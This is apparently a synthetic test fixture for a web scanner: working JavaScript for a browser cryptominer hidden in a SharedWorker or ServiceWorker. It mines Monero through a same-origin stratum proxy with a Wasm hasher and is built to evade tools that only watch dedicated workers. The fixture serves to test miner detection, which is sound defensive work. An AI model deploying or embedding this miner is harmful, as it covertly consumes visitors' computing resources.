/* webscan fixture (synthetic, written for webscan): a miner that lives in a SharedWorker or a
 * ServiceWorker instead of a dedicated worker, out of reach of anything that only wraps
 * `new Worker` or only instruments the page. It speaks Monero stratum itself to a pool proxy on
 * its own origin and hashes with the real Wasm miner (instantiateStreaming of
 * /assets/app-core.wasm) in a setTimeout loop. It starts on the first "go" message from a page
 * (a SharedWorker port or a ServiceWorker client); the login comes with the message.
 * Crawled as part of miner/shared-worker.html or miner/service-worker.html: miner. */
var ex = null, job = null, nonce = 0, session = null, sock = null, rpcId = 1, started = false;

function hex(b) { var s = ""; for (var i = 0; i < b.length; i++) s += (b[i] < 16 ? "0" : "") + b[i].toString(16); return s; }
function bytes(h) { var o = new Uint8Array(h.length / 2); for (var i = 0; i < o.length; i++) o[i] = parseInt(h.substr(2 * i, 2), 16); return o; }
function rpc(method, params) { sock.send(JSON.stringify({ id: rpcId++, jsonrpc: "2.0", method: method, params: params })); }
function load() { if (ex && job) new Uint8Array(ex.memory.buffer, ex.c(), 76).set(bytes(job.blob)); }
function setJob(j) { var first = !job; job = j; nonce = 0; load(); if (first) step(); }

function step() {
  if (!ex || !job) return;
  var n = ex.a(nonce, 1) >>> 0, h = new Uint8Array(ex.memory.buffer, ex.d(), 32);
  var t = bytes(job.target), hv = 0, tv = 0;
  for (var i = 3; i >= 0; i--) { hv = hv * 256 + h[28 + i]; tv = tv * 256 + t[i]; }
  if (hv < tv && sock && sock.readyState === 1) {
    rpc("submit", { id: session, job_id: job.job_id, nonce: hex([n & 255, (n >>> 8) & 255, (n >>> 16) & 255, n >>> 24]), result: hex(h) });
  }
  nonce = (nonce + 1) >>> 0;
  setTimeout(step, 0);
}

function go(login) {
  if (started) return;
  started = true;
  var wasm = new URL("/assets/app-core.wasm", self.location.href).href;
  WebAssembly.instantiateStreaming(fetch(wasm), {}).then(function (r) {
    ex = r.instance.exports; if (job) { load(); step(); }
  });
  sock = new WebSocket("ws://" + self.location.host + "/pool/stratum");
  sock.onopen = function () { rpc("login", { login: login, pass: "x", agent: "bg/0.3" }); };
  sock.onmessage = function (e) {
    var m = JSON.parse(e.data);
    if (m.result && m.result.job) { session = m.result.id; setJob(m.result.job); }
    else if (m.method === "job") setJob(m.params);
  };
}

function onGo(data) { if (data && data.cmd === "go") go(String(data.login)); }
if (typeof SharedWorkerGlobalScope !== "undefined" && self instanceof SharedWorkerGlobalScope) {
  self.onconnect = function (e) { var port = e.ports[0]; port.onmessage = function (m) { onGo(m.data); }; port.start(); };
} else {
  self.addEventListener("install", function () { self.skipWaiting(); });
  self.addEventListener("activate", function (e) { e.waitUntil(self.clients.claim()); });
  // The page pings every few seconds: each message event keeps the service worker alive.
  self.addEventListener("message", function (e) { onGo(e.data); });
}
